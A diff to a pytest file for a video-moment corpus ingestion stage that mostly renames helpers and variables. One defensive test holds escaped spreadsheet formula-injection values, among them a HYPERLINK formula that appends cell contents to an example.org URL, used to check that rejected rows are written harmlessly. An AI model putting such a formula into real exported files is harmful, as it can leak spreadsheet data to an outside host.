@@ -42,7 +42,7 @@ def ingest_rows(*rows: Row, **changes) -> ingest.Ingested:
     return ingest.ingest(rows, ingest_params(**changes))
 
 
-def reasons_of(result) -> list[tuple]:
+def list_reasons(result) -> list[tuple]:
     return list(result.rejected[["line", "reason"]].itertuples(index=False, name=None))
 
 
@@ -121,8 +121,8 @@ REASONS = [(changes, reason) for reason, cases in CASES.items() for changes in c
 def test_a_row_that_cannot_be_used_is_rejected_with_its_place_and_reason(changes, reason):
     result = ingest_rows(row(**changes))
     assert moment_rows(result) == []
-    [rejected] = result.rejected.to_dict("records")
-    assert (rejected["file"], rejected["line"], rejected["reason"]) == ("tvr.jsonl", 7, reason)
+    [record] = result.rejected.to_dict("records")
+    assert (record["file"], record["line"], record["reason"]) == ("tvr.jsonl", 7, reason)
     assert result.metrics["rejected_by_reason"] == {reason: 1}
 
 
@@ -153,13 +153,13 @@ def test_every_reason_of_the_code_has_its_case():
     ],
 )
 def test_of_several_problems_the_first_is_the_reason(changes, reason):
-    assert reasons_of(ingest_rows(row(**changes))) == [(7, reason)]
+    assert list_reasons(ingest_rows(row(**changes))) == [(7, reason)]
 
 
 def test_a_rejected_row_is_shown_as_the_file_has_it():
     changes = {"moment_id": 1.5, "start": "soon", "item": "[3]", "description": "Hi"}
-    [shown] = ingest_rows(row(modality=["v"], **changes)).rejected.to_dict("records")
-    assert shown == GOOD | changes | {"modality": "['v']", "reason": "no-id"}
+    [record] = ingest_rows(row(modality=["v"], **changes)).rejected.to_dict("records")
+    assert record == GOOD | changes | {"modality": "['v']", "reason": "no-id"}
 
 
 # Duplicates, durations, modalities, ends
@@ -175,18 +175,18 @@ def test_of_rows_with_one_id_the_first_usable_is_taken():
     result = ingest_rows(*rows)
     assert [moment[4] for moment in moment_rows(result)] == ["First."]
     reasons = [(1, "end-not-after-start"), (3, "duplicate-id"), (4, "duplicate-id")]
-    assert reasons_of(result) == reasons
+    assert list_reasons(result) == reasons
 
 
 def test_rows_without_id_are_no_duplicates_of_each_other():
     result = ingest_rows(row(line=1, moment_id=None), row(line=2, moment_id=None))
-    assert reasons_of(result) == [(1, "no-id"), (2, "no-id")]
+    assert list_reasons(result) == [(1, "no-id"), (2, "no-id")]
 
 
 def test_of_durations_said_equally_often_the_longest_counts():
-    other = {"video_id": "v2", "duration": 12}
+    second_video = {"video_id": "v2", "duration": 12}
     durations = [{"duration": 10, "end": 11.9}, {"duration": 12}, {"duration": None}]
-    result = ingest_rows(*rows_with_own_ids(*durations, other))
+    result = ingest_rows(*rows_with_own_ids(*durations, second_video))
     assert result.videos["duration"].to_list() == [12.0, 12.0]
     assert [moment[3] for moment in moment_rows(result)] == [11.9, 4.0, 4.0, 4.0]
     assert result.metrics["videos_with_several_durations"] == 1
@@ -215,7 +215,7 @@ def test_rows_of_other_modalities_are_counted_and_not_taken():
 
 
 @pytest.mark.parametrize(
-    ("end", "slack", "kept"),
+    ("end", "slack", "expected"),
     [
         (10.0, 1.0, 10.0),
         (10.5, 1.0, 10.0),
@@ -226,10 +226,10 @@ def test_rows_of_other_modalities_are_counted_and_not_taken():
         (14.0, 5.0, 10.0),
     ],
 )
-def test_an_end_past_the_videos_by_less_than_the_slack_is_clipped(end, slack, kept):
+def test_an_end_past_the_videos_by_less_than_the_slack_is_clipped(end, slack, expected):
     result = ingest_rows(row(end=end), end_slack=slack)
-    assert [moment[3] for moment in moment_rows(result)] == ([] if kept is None else [kept])
-    assert result.metrics["ends_clipped"] == (kept is not None and end > 10.0)
+    assert [moment[3] for moment in moment_rows(result)] == ([] if expected is None else [expected])
+    assert result.metrics["ends_clipped"] == (expected is not None and end > 10.0)
 
 
 def test_only_ends_of_moments_that_are_taken_count_as_clipped():
@@ -289,8 +289,8 @@ def test_every_row_ends_in_exactly_one_place(tmp_path, rows, slack):
     assert metrics["rejected"] == sum(metrics["rejected_by_reason"].values())
     refused = set(result.rejected["line"])
     assert len(refused) == len(result.rejected)
-    left = [it.moment_id for it in rows if it.line not in refused]
-    assert set(result.moments["moment_id"]) <= {str(_whole(it)).strip() for it in left}
+    accepted = [it.moment_id for it in rows if it.line not in refused]
+    assert set(result.moments["moment_id"]) <= {str(_whole(it)).strip() for it in accepted}
 
     joined = result.moments.merge(result.videos, on="video_id", validate="many_to_one")
     assert len(joined) == len(result.moments)
@@ -338,9 +338,9 @@ def test_reasons_of_times_are_those_of_their_definition(intervals, slack):
     rows = rows_with_own_ids(*(it | {"video_id": f"v{n}"} for n, it in enumerate(times)))
     reasons = [first_reason(*interval, slack) for interval in intervals]
     result = ingest_rows(*rows, end_slack=slack)
-    assert reasons_of(result) == [(n, reason) for n, reason in enumerate(reasons) if reason]
-    kept = [str(number) for number, reason in enumerate(reasons) if not reason]
-    assert [moment[0] for moment in moment_rows(result)] == kept
+    assert list_reasons(result) == [(n, reason) for n, reason in enumerate(reasons) if reason]
+    accepted = [str(number) for number, reason in enumerate(reasons) if not reason]
+    assert [moment[0] for moment in moment_rows(result)] == accepted
 
 
 # Paths
@@ -448,7 +448,7 @@ def metrics():
     return files.read_json(Path("datasets/work/metrics/ingest.json"))
 
 
-def rejected():
+def read_rejected():
     return csv_files.read_csv(ingest.REJECTED)
 
 
@@ -457,7 +457,7 @@ def test_the_stage_writes_its_tables_and_metrics(stage):
     assert tables.MOMENTS.read()["moment_id"].to_list() == ["1"]
     assert tables.VIDEOS.read()["video_id"].to_list() == ["v1"]
     columns = ["line", "moment_id", "reason"]
-    assert rejected()[columns].to_numpy().tolist() == [["3", "3", "end-not-after-start"]]
+    assert read_rejected()[columns].to_numpy().tolist() == [["3", "3", "end-not-after-start"]]
     counts = metrics()
     assert (counts["rows"], counts["moments"], counts["rejected"]) == (3, 1, 1)
     written = {"metrics", "moments.parquet", "rejected_moments.csv", "videos.parquet"}
@@ -473,7 +473,7 @@ def test_too_many_rejected_rows_stop_the_stage_after_they_are_written(stage):
     assert [line.split()[:2] for line in reasons] == [["1", "empty-text"], ["1", "not-json"]]
     assert "tvr.jsonl line 2" in reasons[1]
     assert "datasets/work/rejected_moments.csv" in last
-    assert list(rejected()["reason"]) == ["not-json", "empty-text"]
+    assert list(read_rejected()["reason"]) == ["not-json", "empty-text"]
     assert metrics()["rejected_by_reason"] == {"empty-text": 1, "not-json": 1}
     assert not tables.MOMENTS.path.exists()
     assert not tables.VIDEOS.path.exists()
@@ -490,14 +490,14 @@ def test_as_many_rejected_rows_as_allowed_do_not_stop_it_and_one_more_does(stage
 def test_a_corpus_without_rows_stops_it(stage):
     with pytest.raises(CorpusError, match=r"^tvr\.jsonl: contains no tvr rows$"):
         stage()
-    assert len(rejected()) == 0
+    assert len(read_rejected()) == 0
     assert metrics()["rows"] == 0
 
 
 def test_a_corpus_without_a_usable_row_stops_it_whatever_is_allowed(stage):
     with pytest.raises(CorpusError, match=r"none of the 2 rows can be used:\n"):
         stage("{}", "[]", max_rejected=1.0)
-    assert list(rejected()["reason"]) == ["no-id", "not-an-object"]
+    assert list(read_rejected()["reason"]) == ["no-id", "not-an-object"]
 
 
 def test_a_corpus_of_other_modalities_stops_it(stage):
@@ -507,26 +507,26 @@ def test_a_corpus_of_other_modalities_stops_it(stage):
 
 def test_a_long_text_is_shown_by_its_beginning(stage):
     stage(tvr(1), tvr(2, desc="word " * 10**6), max_rejected=0.5)
-    shown = rejected().loc[2]
-    assert shown["reason"] == "too-long"
-    assert "5,000,000 characters" in shown["description"]
+    record = read_rejected().loc[2]
+    assert record["reason"] == "too-long"
+    assert "5,000,000 characters" in record["description"]
     assert ingest.REJECTED.stat().st_size < 1000
 
 
 def test_the_limit_of_a_description_is_the_params(stage):
     stage(tvr(1, desc="a" * 30), tvr(2, desc="b" * 31), max_characters=30, max_rejected=0.5)
-    assert list(rejected()["reason"]) == ["too-long"]
+    assert list(read_rejected()["reason"]) == ["too-long"]
 
 
 def test_a_video_tells_its_duration_where_no_row_does():
     rows = rows_with_own_ids({"duration": None}, {"duration": None, "video_id": "w", "end": 9.0})
-    said = {"videos/v1.mp4": 3.5}
+    probed = {"videos/v1.mp4": 3.5}
     asked = []
     params = ingest_params(videos="videos/{video_id}.mp4")
-    result = ingest.ingest(rows, params, lambda paths: asked.extend(paths) or said)
+    result = ingest.ingest(rows, params, lambda paths: asked.extend(paths) or probed)
     assert sorted(asked) == ["videos/v1.mp4", "videos/w.mp4"]
     assert moment_rows(result) == [("0", "v1", 2.0, 3.5, "She waves.", "v")]
-    assert reasons_of(result) == [(1, "no-duration")]
+    assert list_reasons(result) == [(1, "no-duration")]
 
 
 def test_a_duration_that_a_row_says_is_not_asked_for():
@@ -538,9 +538,9 @@ def test_a_duration_that_a_row_says_is_not_asked_for():
 
 def test_the_stage_says_what_it_took_rejected_and_did_not_find(stage, capsys):
     stage(tvr(1), tvr(2, desc=""), max_rejected=0.5, videos="nowhere/{video_id}.mp4")
-    said = capsys.readouterr().err
+    message = capsys.readouterr().err
     named = ["1 moments of 1 videos", "empty-text", "tvr.jsonl line 2", "ingest.videos"]
-    assert [it for it in [*named, "nowhere/v1.mp4"] if it not in said] == []
+    assert [it for it in [*named, "nowhere/v1.mp4"] if it not in message] == []
 
 
 def test_a_file_of_the_folder_that_is_not_read_is_named(stage, capsys):
@@ -574,10 +574,10 @@ def test_formulas_in_rejected_rows_are_harmless(stage):
         "tvr.jsonl,2,,'@SUM(1),'-1+1,'=1,'+1,10.0,"
         '"\'=HYPERLINK(""http://example.org/?""&A1)",v,not-a-number'
     )
-    assert rejected().loc[2, "description"] == formula
+    assert read_rejected().loc[2, "description"] == formula
 
 
 def test_broken_text_is_written_so_that_it_can_be_seen(stage):
     stage(tvr(1), tvr(2, desc="lone \ud800", vid_name="nul\0"), max_rejected=0.5)
-    shown = rejected().loc[2, ["description", "reason", "video_id"]].tolist()
-    assert shown == ["lone \\ud800", "not-utf8", "nul\0"]
+    record = read_rejected().loc[2, ["description", "reason", "video_id"]].tolist()
+    assert record == ["lone \\ud800", "not-utf8", "nul\0"]
